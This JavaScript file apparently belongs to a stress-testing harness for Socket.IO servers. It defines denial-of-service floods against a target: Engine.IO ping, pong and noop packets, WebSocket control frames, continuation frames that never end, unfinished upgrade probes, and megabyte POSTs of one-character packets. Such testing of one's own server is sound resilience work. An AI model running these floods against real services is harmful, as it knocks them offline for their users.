import { frame, opcodes } from '../../../harness/connection.js';
import { text } from '../attacker/dial.js';
import { filled, many } from '../attacker/kit.js';

// Frames and packets below Socket.IO, as fast as the attacker may send.

const EMPTY = Buffer.alloc(0);

/** By name, what fills the flood, and whether a namespace is joined first. */
const floods = {
  'Engine.IO pongs': text('3'),
  'Engine.IO pings': text('2'),
  'Engine.IO noops': text('6'),
  'empty Engine.IO messages': text('4'),
  'WebSocket pings': frame(EMPTY, { opcode: opcodes.ping }),
  'WebSocket pings of 125 bytes': frame(Buffer.alloc(125), { opcode: opcodes.ping }),
  'WebSocket pongs': frame(EMPTY, { opcode: opcodes.pong }),
  'empty texts': text(''),
};

const flood = (name, packet) => ({
  name: `engine: ${name}`,
  about: `frames of ${packet.length} bytes on one WebSocket`,
  run: (attacker) => attacker.floodOn(() => attacker.socket(), filled(packet)),
});

/** A message whose parts never end: `fin` is never set. */
const parts = {
  name: 'engine: parts of a message that never ends',
  about: 'empty continuation frames',
  run: (attacker) =>
    attacker.floodOn(
      async () => {
        const connection = await attacker.socket();
        await connection.write(frame('4', { fin: false }));
        return connection;
      },
      filled(frame(EMPTY, { opcode: opcodes.continuation, fin: false })),
    ),
};

const early = {
  name: 'engine: WebSocket pings before CONNECT',
  about: 'empty ping frames on a WebSocket that joins no namespace',
  run: (attacker) => attacker.floodOn(() => attacker.socketBefore(), filled(frame(EMPTY, { opcode: opcodes.ping }))),
};

const probes = {
  name: 'engine: probes of an upgrade that is never finished',
  about: '2probe on the WebSocket that a session on polling would move to',
  run: (attacker) => attacker.floodOn(() => probed(attacker, attacker.target), filled(text('2probe'))),
};

/** The WebSocket of an upgrade; the session is at `owner`. */
export async function probed(attacker, owner) {
  const session = await attacker.polling({ worker: owner });
  return (await attacker.dial.upgradeOf(session, attacker.target)).discard();
}

/** 1 MB of the smallest packets in one POST. */
const tiny = (packet) => ({
  name: `engine: POSTs of ${JSON.stringify(packet)} alone`,
  about: 'a million bytes of packets of one character, in one POST',
  run: (attacker) => attacker.postOn(() => attacker.polling(), many(499_999, packet)),
});

/** @type {import('../attacks.js').Attack[]} */
export const engineFloods = [
  ...Object.entries(floods).map(([name, packet]) => flood(name, packet)),
  parts,
  early,
  probes,
  ...['2', '3', '4', '6', ''].map(tiny),
];
